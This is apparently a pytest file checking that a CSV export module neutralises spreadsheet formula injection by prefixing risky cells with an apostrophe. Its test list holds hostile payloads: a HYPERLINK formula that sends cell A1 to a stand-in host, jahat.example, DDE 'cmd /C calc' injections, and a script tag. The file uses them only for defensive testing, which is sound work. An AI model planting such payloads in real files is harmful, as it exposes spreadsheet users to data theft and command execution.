"""CSV: what Python and spreadsheets read back, and that no cell of it is ever a formula."""

from __future__ import annotations

import csv
import io
import re

import pytest

from bot.console.csv_export import csv_file, inert

HOSTILE = (
    '=HYPERLINK("http://jahat.example/?"&A1;"klik")',
    "=1+1",
    "+62 811 0000",
    "-2+3+cmd|' /C calc'!A0",
    '@SUM(1+1)*cmd|" /C calc"!A0',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "   =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\x00=1+1",
    "\x1b=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "bagus;=1+1",
    'bagus;"=1+1"',
    "bagus\n=1+1",
    "bagus\r\n@SUM(1)",
    "bagus\t=1+1",
    "bagus|=1+1",
    ";;=1+1",
    '"=1+1"',
    "<script>alert(1)</script>",
    '";=1+1;"',
    "a,=1+1",
)
FORMULA = re.compile(r'[\s"\ufeff\u200b\x00-\x1f]*[=+\-@＝＋－＠]')


def cells(content: bytes, delimiter: str) -> list[str]:
    """Every cell that a spreadsheet with this list separator could see."""
    text = content.decode("utf-8-sig")
    return [cell for line in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for cell in line]


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"])
def test_no_cell_is_a_formula_whatever_separates_them(text: str, delimiter: str) -> None:
    content = csv_file(["komentar", "lain"], [["a", text], [text, 1]])
    assert [cell for cell in cells(content, delimiter) if FORMULA.match(cell)] == []


@pytest.mark.parametrize("text", HOSTILE)
def test_no_line_is_a_formula_when_quotes_are_not_understood(text: str) -> None:
    content = csv_file(["komentar"], [[text]]).decode("utf-8-sig")
    raw = [cell for line in re.split(r"[\r\n]+", content) for cell in re.split(r"[;|\t]", line)]
    assert [cell for cell in raw if FORMULA.match(cell)] == []


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1", "\tx", "\rx"])
def test_what_begins_like_a_formula_is_led_by_an_apostrophe(text: str) -> None:
    assert inert(text) == f"'{text}"


@pytest.mark.parametrize(
    "text", ["", "Retur", "A-1", "budi@toko.example", "1 + 1 = 2", "rp 5.000; lunas", "dua\nbaris"]
)
def test_usual_text_stays_as_it_is(text: str) -> None:
    assert inert(text) == text


def test_long_runs_of_what_nobody_sees_cost_no_more_than_their_length() -> None:
    hostile = ("\x0b " * 50_000) + "x" + (";" * 50_000)
    assert inert(hostile) == hostile


def test_numbers_stay_numbers_and_nothing_is_an_empty_cell() -> None:
    assert csv_file(["n", "x", "y"], [[-3, 0.5, None]]).decode("utf-8-sig") == "n,x,y\r\n-3,0.5,\r\n"


def test_it_is_as_rfc_4180_wants_it_and_excel_reads_it_as_utf_8() -> None:
    content = csv_file(["nama", "kata"], [["Ibu Sri", 'dia bilang "oke", lalu\nselesai']])
    assert content.startswith(b"\xef\xbb\xbf")
    assert content[3:] == b'nama,kata\r\nIbu Sri,"dia bilang ""oke"", lalu\nselesai"\r\n'
    read = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    assert read == [["nama", "kata"], ["Ibu Sri", 'dia bilang "oke", lalu\nselesai']]
